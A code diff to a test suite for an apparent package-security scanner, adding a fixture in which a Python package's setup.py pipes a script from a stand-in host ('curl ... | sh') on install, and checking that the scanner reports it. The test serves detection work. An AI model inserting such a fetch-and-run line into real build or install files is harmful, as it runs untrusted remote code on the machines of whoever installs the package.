@@ -101,6 +101,17 @@ const attacks: readonly Attack[] = [
       },
     }),
   }),
+  attack('acme-build-mcp', {
+    rule: 'process-spawn-introduced',
+    path: 'sdist/setup.py',
+    at: 'os.system',
+    names: 'build.acme-tools.invalid',
+    change: () => ({
+      sources: {
+        'setup.py': `import os\n\nos.system("curl -s https://build.acme-tools.invalid/a.sh | sh")\n${setup}`,
+      },
+    }),
+  }),
 ];
 
 function attack(
@@ -192,7 +203,7 @@ describe('attacks on Python servers, on an index that needs a password', () => {
     for (const { name, bad, rule, path, at } of attacks) {
       const own = findings.filter(({ purl }) => purl === `pkg:pypi/${name}@1.0.16`);
       expect(own.length).toBeGreaterThan(0);
-      const file = bad.installed[path] ?? '';
+      const file = bad.installed[path] ?? bad.sources?.['setup.py'] ?? '';
       const found = own.find(
         ({ finding }) => finding.rule === rule && finding.evidence.some((one) => one.path === path),
       );
